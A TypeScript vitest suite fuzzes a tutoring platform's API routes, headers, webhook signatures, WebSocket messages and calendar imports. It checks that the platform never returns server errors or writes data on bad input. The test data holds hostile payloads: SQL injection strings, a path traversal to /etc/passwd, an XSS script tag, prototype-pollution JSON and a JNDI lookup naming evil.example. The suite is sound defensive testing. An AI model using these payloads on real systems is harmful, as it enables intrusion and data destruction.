import { env, exports } from "cloudflare:workers";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import { calendarOf } from "../../worker/lib/stubs";
import { Client, adminClient, approvedTutor, fundedStudent, settleWallet, slotAhead } from "./helpers";
import { fillPath, routeTable } from "./surface";
import { bookedSession } from "./videoHelpers";

/** Routes that take no body: calling them at all is the action, so body fuzz does not apply (params and roles still do). */
const NO_BODY = new Set([
  "POST /api/auth/logout",
  "POST /api/billing/cancel",
  "POST /api/billing/portal",
  "POST /api/billing/local/advance-period",
  "POST /api/billing/local/checkout/:id/complete",
  "POST /api/tutors/me/payouts/onboarding",
  "POST /api/admin/payouts/run",
  "POST /api/admin/wallets/import",
  "POST /api/offers/:id/decline",
  "POST /api/admin/tutors/:id/approve",
  "POST /api/admin/webhooks/:id/replay",
  "POST /api/admin/earnings/:id/approve",
  "POST /api/admin/earnings/:id/reject",
  "POST /api/tutors/me/calendar-feed/rotate",
  "POST /api/me/calendar-feed/rotate",
  "POST /api/conversations/:id/read",
  "POST /api/auth/verify-email/resend",
  "POST /api/admin/users/:id/restore",
  "POST /api/group-sessions/:id/waitlist",
  "DELETE /api/tutors/me/photo",
  "DELETE /api/admin/tutors/:id/photo",
]);

const deep = (n: number): unknown => (n === 0 ? "bottom" : { a: deep(n - 1) });
/** Every known field name with a wrong type, so no schema in the app accepts it. */
const wrongTypes = {
  email: 1, password: [], name: {}, role: "superuser", timezone: "Mars/Base", start: "yesterday", durationMinutes: -5, subject: "",
  tutorId: null, reason: 12345, rating: 99, minutes: "lots", userId: [], planId: {}, packId: [], ids: "all", all: "yes", studentId: 5,
  weekly: "x", overrides: 5, bio: [], subjects: "x", hourlyRateCents: "x", seats: 100, group: "yes", comment: 7, summary: 5, homework: [],
  minHourlyRateCents: "x", maxHourlyRateCents: -1, trial: "yes", offersTrials: "sometimes", repeat: { weeks: 0 },
  text: [], endpoint: 5, keys: "x", push: "on", blocked: "yes", block: "yes", details: 5, resolution: "maybe",
};

const HOSTILE_BODIES: [string, string][] = [
  ["truncated JSON", "{"],
  ["an array", "[]"],
  ["null", "null"],
  ["a bare string", '"string"'],
  ["a huge number", "1e999"],
  ["wrong types everywhere", JSON.stringify(wrongTypes)],
  ["deep nesting", JSON.stringify({ ...wrongTypes, reason: deep(400) })],
  ["long strings", JSON.stringify({ ...wrongTypes, name: "x".repeat(40_000) })],
  ["odd unicode", JSON.stringify({ ...wrongTypes, name: "\u0000\ud800\u202e😀" })],
  ["prototype pollution", '{"__proto__":{"role":"admin"},"constructor":{"prototype":{"admin":true}},"reason":1}'],
  ["SQL in strings", JSON.stringify({ ...wrongTypes, subject: "'; DROP TABLE users; --", tutorId: "' OR '1'='1" })],
];
const HOSTILE_IDS = ["../../../etc/passwd", "' OR '1'='1", "%00", "x".repeat(3000), "😀", "<script>alert(1)</script>", "-1", "null"];
const HOSTILE_QUERY =
  "from=%ZZ&to[]=1&duration=NaN&limit=-1&subject=%00&tz=../../etc&q=%27%20OR%201%3D1--&status=everything&days=1e9&planId[]=x&maxRateCents=1e99&provider=x&role=root&cursor=%27--";

let people: Record<string, Client>;
let ids: Record<string, string>;

/** Caches a read may fill (a feed is rendered ahead when its URL is handed out): not records a request writes. */
const CACHES = ["feed_renders"];

async function rowCounts(): Promise<Record<string, number>> {
  const tables = await env.DB.prepare("SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE 'sqlite_%' AND name NOT LIKE '_cf_%' AND name != 'd1_migrations'").all<{ name: string }>();
  const out: Record<string, number> = {};
  for (const { name } of tables.results.filter((t) => !CACHES.includes(t.name))) out[name] = (await env.DB.prepare(`SELECT count(*) AS n FROM "${name}"`).first<{ n: number }>())!.n;
  return out;
}

function check(route: string, persona: string, res: { status: number; json: any; text: string }) {
  const label = `${route} as ${persona} → ${res.status} ${res.text.slice(0, 160)}`;
  expect(res.status, label).toBeLessThan(500);
  if (res.status >= 400) {
    expect(res.json?.error?.code, label).toMatch(/^[a-z_]+$/);
    expect(res.json?.error?.message, label).toBeTypeOf("string");
  }
}

beforeAll(async () => {
  const tutor = await approvedTutor();
  const student = await fundedStudent(600);
  const booked = await student.client.post("/api/bookings", { tutorId: tutor.user.id, start: slotAhead(72 * 60), durationMinutes: 60, subject: "mathematics" });
  const weekly = await student.client.post("/api/bookings", { tutorId: tutor.user.id, start: slotAhead(20 * 24 * 60), durationMinutes: 60, subject: "mathematics", repeat: { weeks: 2 } });
  const group = await tutor.client.post("/api/tutors/me/group-sessions", { start: slotAhead(30 * 24 * 60), durationMinutes: 60, subject: "mathematics", seats: 2 }, { "Idempotency-Key": crypto.randomUUID() });
  // Let the booking's background work (notices, live pushes) finish, so the row counts below are stable.
  await calendarOf(env, tutor.user.id).settle();
  await settleWallet(student.user.id);
  people = { anonymous: new Client(), student: student.client, tutor: tutor.client, admin: await adminClient() };
  ids = { tutor: tutor.user.id, booking: booked.json.booking.id, student: student.user.id, series: weekly.json.series.id, group: group.json.booking.id };
});

describe("fuzz: malformed, oversized and hostile input to every route", () => {
  // Routes that end the caller's sessions would sign the personas out (their own tests cover them).
  const routes = routeTable().filter((r) => !r.endsWith("/logout") && !r.endsWith("/sessions/revoke-all"));

  it.each(routes)("%s never answers 5xx, always the envelope, and writes nothing", async (route) => {
    const [method, path] = route.split(" ") as [string, string];
    const before = await rowCounts();
    const real = fillPath(path, { id: path.includes("/bookings/") ? ids.booking! : path.includes("/series/") ? ids.series! : path.includes("/group-sessions/") ? ids.group! : ids.tutor!, userId: ids.student! });
    for (const [persona, client] of Object.entries(people)) {
      if (method !== "GET" && !NO_BODY.has(route)) {
        for (const [, body] of HOSTILE_BODIES) check(route, persona, await client.request(method, real, body));
      }
      if (path.includes(":")) {
        for (const id of HOSTILE_IDS) {
          const url = fillPath(path, { id, userId: id });
          check(route, persona, await client.request(method, url, method === "GET" ? undefined : JSON.stringify(wrongTypes)));
        }
      }
      if (method === "GET") check(route, persona, await client.request(method, `${real}?${HOSTILE_QUERY}`));
    }
    expect(await rowCounts()).toEqual(before);
  });
});

// ───────────────────────── hostile headers ─────────────────────────

/** Idempotency-Key values a client could send (each a valid header value; Request refuses the rest). */
const HOSTILE_KEYS = ["", " ", "\t", "x".repeat(256), "k".repeat(10_000), "é-ümlaut", "${jndi:ldap://evil.example/a}", "../../etc/passwd", "' OR '1'='1", "*", "a,b"];
/** Content types around JSON, each with a body no schema accepts (`null`: no Content-Type at all). */
const HOSTILE_TYPES: [string | null, string][] = [
  [null, JSON.stringify(wrongTypes)],
  ["text/plain", JSON.stringify(wrongTypes)],
  ["application/x-www-form-urlencoded", "role=admin&__proto__%5Badmin%5D=1&minutes=lots"],
  ["multipart/form-data; boundary=----fuzz", '------fuzz\r\nContent-Disposition: form-data; name="role"\r\n\r\nadmin\r\n------fuzz--\r\n'],
  ["application/json; charset=utf-16", JSON.stringify(wrongTypes)],
  ['application/json; charset="latin1"', JSON.stringify(wrongTypes)],
  ["APPLICATION/JSON", JSON.stringify(wrongTypes)],
  ["application/json, text/html", JSON.stringify(wrongTypes)],
  ["application/xml", "<role>admin</role>"],
];
/** Signature headers of the webhooks, mangled. */
const HOSTILE_SIGNATURES = [
  "",
  "t=",
  "v1=",
  "t=abc,v1=00",
  "t=-1,v1=zz",
  "t=99999999999999999999999,v1=00",
  `t=${Math.floor(Date.now() / 1000)},v0=aa,v1=bb,v1=cc`,
  `t=${Math.floor(Date.now() / 1000)};v1=${"0".repeat(64)}`,
  `t=${Math.floor(Date.now() / 1000)},${Array.from({ length: 200 }, () => `v1=${"f".repeat(64)}`).join(",")}`,
  ",,,,",
  "=".repeat(5000),
];
const WEBHOOKS: [string, string][] = [
  ["/api/webhooks/stripe", "Stripe-Signature"],
  ["/api/webhooks/calendly", "Calendly-Webhook-Signature"],
];

/** Row counts apart from stored idempotent answers (a refused request is remembered under its key, as designed). */
const countsApartFromKeys = async () => {
  const { idempotency_keys: _, ...rest } = await rowCounts();
  return rest;
};

describe("fuzz: hostile headers", () => {
  // Signing out (here or everywhere) would end the personas' sessions; webhooks have their own rows below.
  const mutating = routeTable().filter((r) => !r.startsWith("GET ") && !r.endsWith("/logout") && !r.endsWith("/sessions/revoke-all") && !r.includes("/webhooks/"));
  // The fuzz below spends the personas' per-user limits (bookings: 10 a minute): the checks after it use a student of their own.
  let own: { client: Client; studentId: string; booking: string };
  beforeAll(async () => {
    const student = await fundedStudent(600);
    const booked = await student.client.post("/api/bookings", { tutorId: ids.tutor, start: slotAhead(300 * 60), durationMinutes: 60, subject: "mathematics" });
    expect(booked.status, booked.text).toBe(201);
    await calendarOf(env, ids.tutor!).settle();
    await settleWallet(student.user.id);
    own = { client: student.client, studentId: student.user.id, booking: booked.json.booking.id };
  });

  // Routes without a body do what they do whatever the headers say (rotating a feed writes a row): they are
  // held to no 5xx and the envelope; the others must also write nothing, since no body here is valid.
  it.each(mutating)("%s survives odd Idempotency-Keys and Content-Types", async (route) => {
    const [method, path] = route.split(" ") as [string, string];
    const before = await countsApartFromKeys();
    const url = fillPath(path, { id: path.includes("/bookings/") ? ids.booking! : ids.tutor!, userId: ids.student! });
    for (const [persona, client] of Object.entries(people)) {
      for (const key of HOSTILE_KEYS) check(`${route} [Idempotency-Key ${JSON.stringify(key.slice(0, 20))}]`, persona, await client.request(method, url, JSON.stringify(wrongTypes), { "Idempotency-Key": key }));
      for (const [type, body] of HOSTILE_TYPES) check(`${route} [Content-Type ${type}]`, persona, await client.request(method, url, body, { "Content-Type": type }));
    }
    if (!NO_BODY.has(route)) expect(await countsApartFromKeys()).toEqual(before);
    // What the idempotency layer kept: keys it accepts (1 to 255 printable ASCII) and answers below 500 only.
    const kept = await env.DB.prepare("SELECT key, status FROM idempotency_keys").all<{ key: string; status: number }>();
    for (const row of kept.results) {
      expect(row.key).toMatch(/^[\x21-\x7e]{1,255}$/);
      expect(row.status).toBeLessThan(500);
    }
  });

  it.each([
    ["text", "text/plain", "{}"],
    ["a form", "application/x-www-form-urlencoded", "reason=later"],
    ["multipart", "multipart/form-data; boundary=----x", '------x\r\nContent-Disposition: form-data; name="reason"\r\n\r\nlater\r\n------x--\r\n'],
    ["no Content-Type", null, "{}"],
  ])("refuses %s sent to a JSON route (415): a form post never passes for an empty request", async (_, type, body) => {
    // Cancelling takes an all-optional body: read as {}, any of these would have cancelled the session.
    const res = await own.client.request("POST", `/api/bookings/${own.booking}/cancel`, body, { "Content-Type": type });
    expect(res.status).toBe(415);
    expect(res.json.error.code).toBe("unsupported_media_type");
    const mine = (await own.client.get("/api/bookings")).json.bookings as { id: string; status: string }[];
    expect(mine.find((b) => b.id === own.booking)?.status).toBe("confirmed");
  });

  it("refuses a reused Idempotency-Key with another body (422) and replays the first answer to a repeat", async () => {
    const key = `fuzz-${crypto.randomUUID()}`;
    const body = { tutorId: ids.tutor, start: slotAhead(200 * 60), durationMinutes: 60, subject: "mathematics" };
    const first = await own.client.post("/api/bookings", body, { "Idempotency-Key": key });
    expect(first.status).toBe(201);
    const again = await own.client.post("/api/bookings", body, { "Idempotency-Key": key });
    expect(again.status).toBe(201);
    expect(again.headers.get("Idempotent-Replayed")).toBe("true");
    expect(again.json.booking.id).toBe(first.json.booking.id);
    const other = await own.client.post("/api/bookings", { ...body, start: slotAhead(204 * 60) }, { "Idempotency-Key": key });
    expect(other.status).toBe(422);
    expect(other.json.error.code).toBe("idempotency_key_reused");
    // The booking's notices and projections follow the answer: let them land before the next test counts rows.
    await calendarOf(env, ids.tutor!).settle();
    await settleWallet(own.studentId);
  });

  it.each(WEBHOOKS)("%s refuses every mangled signature with 400 invalid_signature and writes nothing", async (path, header) => {
    const before = await rowCounts();
    const bodies = [JSON.stringify({ id: "evt_fuzz", type: "invoice.paid", data: { object: {} } }), JSON.stringify({ event: "invitee.created", payload: {} }), ...HOSTILE_BODIES.map(([, b]) => b)];
    for (const signature of HOSTILE_SIGNATURES) {
      for (const body of bodies) {
        const res = await people.anonymous!.request("POST", path, body, { [header]: signature });
        check(`${path} [${header} ${signature.slice(0, 30)}]`, "anonymous", res);
        expect(res.status).toBe(400);
        expect(res.json.error.code).toBe("invalid_signature");
      }
    }
    expect(await rowCounts()).toEqual(before);
  });
});

// ───────────────────────── hostile WebSocket messages ─────────────────────────

const HOSTILE_MESSAGES: [string, string | ArrayBuffer][] = [
  ["a binary frame", new Uint8Array([0, 159, 146, 150, 255]).buffer],
  ["an empty message", ""],
  ["truncated JSON", '{"type":'],
  ["null", "null"],
  ["an array", '[{"type":"ping"}]'],
  ["a huge number", "1e999"],
  ["an unknown type", '{"type":"subscribe","to":"everything"}'],
  ["a type that is not a string", '{"type":["ping"]}'],
  ["prototype pollution", '{"__proto__":{"type":"ping"},"constructor":{"prototype":{"admin":true}}}'],
  ["deep nesting", JSON.stringify(deep(300))],
  ["NUL and lone surrogates", '{"type":"ping\\u0000","x":"\\ud800"}'],
  ["wrong field types", '{"type":"chat","text":{"$gt":""}}'],
  ["a signal to nobody", JSON.stringify({ type: "signal", to: "../../x", signal: { kind: "description", description: { type: "offer", sdp: "v=0\r\n".repeat(2000) } } })],
  ["media state of the wrong types", '{"type":"media","state":{"audio":"yes","video":1,"screen":null}}'],
  ["an oversized message", JSON.stringify({ type: "ping", pad: "x".repeat(70_000) })],
];

/** Close codes a socket may end with on bad input: unsupported data, policy (rate), too big. */
const BAD_INPUT_CLOSES = [1003, 1008, 1009];

/**
 * Sends `message` on a fresh socket, then a ping: the socket either closes with a bad-input code or answers the
 * ping (the message was ignored). Either way the object keeps serving: a new socket gets its greeting.
 */
async function probe(open: () => Promise<WebSocket>, greeting: string, message: string | ArrayBuffer, reopen = open) {
  const ws = await open();
  const seen: string[] = [];
  const closed = new Promise<number>((r) => ws.addEventListener("close", (e) => r(e.code)));
  ws.addEventListener("message", (e) => {
    seen.push(String(e.data));
  });
  ws.send(message);
  try {
    ws.send(JSON.stringify({ type: "ping" }));
  } catch {
    /* already closing */
  }
  const outcome = await Promise.race([
    closed.then((code) => ({ closed: code })),
    (async () => {
      for (let i = 0; i < 250; i++) {
        if (seen.some((m) => m.includes('"pong"'))) return { answered: true };
        await new Promise((r) => setTimeout(r, 20));
      }
      return { answered: false };
    })(),
  ]);
  if ("closed" in outcome) expect(BAD_INPUT_CLOSES).toContain(outcome.closed);
  else expect(outcome.answered).toBe(true);
  ws.close();
  const again = await reopen();
  const hello = await new Promise<string>((r) => again.addEventListener("message", (e) => r(String(e.data)), { once: true }));
  expect(JSON.parse(hello).type).toBe(greeting);
  again.close();
}

async function socketOf(client: Client, path: string): Promise<WebSocket> {
  const res = await exports.default.fetch(
    new Request(`${client.origin}${path}`, { headers: { Upgrade: "websocket", Origin: client.origin, "CF-Connecting-IP": client.address, ...(client.cookie ? { Cookie: client.cookie } : {}) } }),
  );
  if (!res.webSocket) throw new Error(`no socket at ${path}: ${res.status}`);
  res.webSocket.accept();
  return res.webSocket;
}

describe("fuzz: hostile WebSocket messages", () => {
  let live: { student: Client; tutor: Client; bookingId: string };
  beforeAll(async () => {
    const session = await bookedSession();
    live = { student: session.student.client, tutor: session.tutor.client, bookingId: session.bookingId };
  });

  it.each(HOSTILE_MESSAGES)("the live feed (/api/live) shrugs off %s", async (_, message) => {
    await probe(() => socketOf(people.student!, "/api/live"), "hello", message);
  });

  it.each(HOSTILE_MESSAGES)("a tutor page's viewers (/api/tutors/:id/live) shrug off %s", async (_, message) => {
    await probe(() => socketOf(people.anonymous!, `/api/tutors/${ids.tutor}/live`), "hello", message);
  });

  it.each(HOSTILE_MESSAGES)("the video room shrugs off %s", async (_, message) => {
    // Joining is rate limited per person: the student sends, the tutor checks the room still admits.
    const as = (client: Client) => async () => {
      const join = await client.post(`/api/bookings/${live.bookingId}/join`);
      expect(join.status, join.text).toBe(200);
      return socketOf(client, `/api/bookings/${live.bookingId}/room?ticket=${encodeURIComponent(join.json.room.ticket)}`);
    };
    await probe(as(live.student), "welcome", message, as(live.tutor));
  });
});

// ───────────────────────── hostile calendars ─────────────────────────

const enc = new TextEncoder();
const vcal = (...lines: string[]) => ["BEGIN:VCALENDAR", "VERSION:2.0", "PRODID:-//fuzz//EN", ...lines, "END:VCALENDAR", ""].join("\r\n");
const vevent = (...lines: string[]) => ["BEGIN:VEVENT", "UID:fuzz", "DTSTAMP:20270101T000000Z", ...lines, "END:VEVENT"].join("\r\n");
const inAWeek = new Date(Date.now() + 7 * 86_400_000).toISOString().replace(/[-:]/g, "").replace(/\.\d{3}/, "");

/** ICS bodies an outside calendar (or someone posing as one) could serve. */
const HOSTILE_ICS: [string, () => string | Uint8Array][] = [
  ["an empty body", () => ""],
  ["a calendar that never ends", () => "BEGIN:VCALENDAR\r\nVERSION:2.0\r\n"],
  ["twenty thousand events that never end", () => `BEGIN:VCALENDAR\r\n${"BEGIN:VEVENT\r\nDTSTART:20270101T000000Z\r\n".repeat(20_000)}END:VCALENDAR\r\n`],
  ["a 2 MB line", () => vcal(`X-PAD:${"a".repeat(2 * 1024 * 1024)}`)],
  ["NUL bytes", () => vcal(vevent(`DTSTART:${inAWeek}`, "DURATION:PT1H", "SUMMARY:\u0000\u0000evil\u0000"))],
  ["bytes that are not UTF-8", () => new Uint8Array([...enc.encode(vcal(vevent(`DTSTART:${inAWeek}`, "DURATION:PT1H", "SUMMARY:"))), 0xff, 0xfe, 0xc3, 0x28])],
  ["a PNG", () => new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13])],
  ["an HTML page", () => "<!doctype html><title>Sign in</title><form>…</form>"],
  ["JSON", () => '{"events":[{"start":"now"}]}'],
  ["an endless rule every second", () => vcal(vevent(`DTSTART:${inAWeek}`, "DURATION:PT1S", "RRULE:FREQ=SECONDLY"))],
  ["three thousand rules walking a hundred thousand steps each", () => vcal(...Array.from({ length: 3000 }, (_, i) => vevent(`UID:walk-${i}`, "DTSTART:19700101T000000Z", "DURATION:PT1S", "RRULE:FREQ=SECONDLY;COUNT=100000")))],
  ["the end of time", () => vcal(vevent("DTSTART:99991231T235959Z", "DTEND:99991231T235959Z"))],
  ["an end before the start", () => vcal(vevent(`DTSTART:${inAWeek}`, "DTEND:19700101T000000Z"))],
  ["a duration of two million years", () => vcal(vevent(`DTSTART:${inAWeek}`, "DURATION:P99999999W"))],
  ["fifty thousand EXDATEs", () => vcal(vevent(`DTSTART:${inAWeek}`, "DURATION:PT1H", "RRULE:FREQ=DAILY;COUNT=10", `EXDATE:${Array.from({ length: 50_000 }, () => inAWeek).join(",")}`))],
  ["an RDATE period that ends before it starts", () => vcal(vevent(`DTSTART:${inAWeek}`, "DURATION:PT1H", "RDATE;VALUE=PERIOD:20270110T120000Z/20270110T090000Z"))],
  ["a 200 KB UID and a 1 MB summary", () => vcal(vevent(`UID:${"u".repeat(200_000)}`, `DTSTART:${inAWeek}`, "DURATION:PT1H", `SUMMARY:${"s".repeat(1_000_000)}`))],
  ["a zone with impossible offsets", () => vcal("BEGIN:VTIMEZONE", "TZID:Evil", "BEGIN:STANDARD", "DTSTART:16010101T000000", "TZOFFSETFROM:+9999", "TZOFFSETTO:-9999", "RRULE:FREQ=YEARLY;BYMONTH=13", "END:STANDARD", "END:VTIMEZONE", vevent(`DTSTART;TZID=Evil:${inAWeek.slice(0, -1)}`, "DURATION:PT1H"))],
  ["a 10,000-character zone name", () => vcal(vevent(`DTSTART;TZID=${"Z".repeat(10_000)}:${inAWeek.slice(0, -1)}`, "DURATION:PT1H"))],
  ["every character on its own folded line", () => vcal(vevent(`DTSTART:${inAWeek}`, "DURATION:PT1H", `SUMMARY:${"folded".split("").join("\r\n ")}`)).split("").join("\r\n ")],
  ["ten thousand calendars in one file", () => vcal(vevent(`DTSTART:${inAWeek}`, "DURATION:PT1H")).repeat(10_000)],
];

/** What the tutor may be told after a sync (a fixed sentence, never what the file said). */
const SYNC_MESSAGES = [
  null,
  "The address does not return an iCalendar (.ics) file.",
  "The calendar is larger than 5 MB.",
  "The calendar could not be synced.",
];
/** The notes of a sync that worked: events skipped, a file too large to read whole. */
const SYNC_NOTES = /^(\d+ events? could not be read and (was|were) skipped\.)? ?(The calendar is too large to read whole; only the first \d+ busy times are used\.)?$/;

describe("fuzz: hostile calendars", () => {
  // A tutor may change outside calendars 10 times a minute: the cases are spread over tutors, 8 syncs each.
  const PER_TUTOR = 8;
  const tutors: { tutor: Awaited<ReturnType<typeof approvedTutor>>; calendarId: string }[] = [];
  let served: () => string | Uint8Array = () => vcal();
  beforeAll(async () => {
    vi.spyOn(globalThis, "fetch").mockImplementation(async (input) => {
      const url = input instanceof Request ? input.url : String(input);
      if (!url.startsWith("https://calendars.example/")) throw new TypeError("Network connection lost.");
      return new Response(served(), { headers: { "Content-Type": "text/calendar" } });
    });
    for (let i = 0; i < Math.ceil(HOSTILE_ICS.length / PER_TUTOR); i++) {
      const tutor = await approvedTutor();
      const added = await tutor.client.post("/api/tutors/me/external-calendars", { url: "https://calendars.example/fuzz.ics" }, { "Idempotency-Key": crypto.randomUUID() });
      expect(added.status).toBe(201);
      tutors.push({ tutor, calendarId: added.json.calendar.id });
    }
  });
  afterAll(() => vi.restoreAllMocks());

  it.each(HOSTILE_ICS.map(([name, body], i) => [name, body, i] as const))("a sync of %s ends in a status the tutor can read, and the calendar keeps serving", async (_, body, i) => {
    const { tutor, calendarId } = tutors[Math.floor(i / PER_TUTOR)]!;
    served = body;
    const res = await tutor.client.post(`/api/tutors/me/external-calendars/${calendarId}/sync`);
    expect(res.status, res.text.slice(0, 200)).toBe(200);
    const cal = res.json.calendar;
    const message: string | null = cal.lastError;
    expect(SYNC_MESSAGES.includes(message) || SYNC_NOTES.test(message ?? ""), String(message)).toBe(true);
    expect(cal.eventCount).toBeLessThanOrEqual(5_000);
    expect(JSON.stringify(res.json)).not.toContain("evil");
    const from = new Date(Date.now() + 86_400_000).toISOString();
    const slots = await new Client().get(`/api/tutors/${tutor.user.id}/slots?from=${from}&to=${new Date(Date.parse(from) + 3 * 86_400_000).toISOString()}&duration=60`);
    expect(slots.status).toBe(200);
  });
});
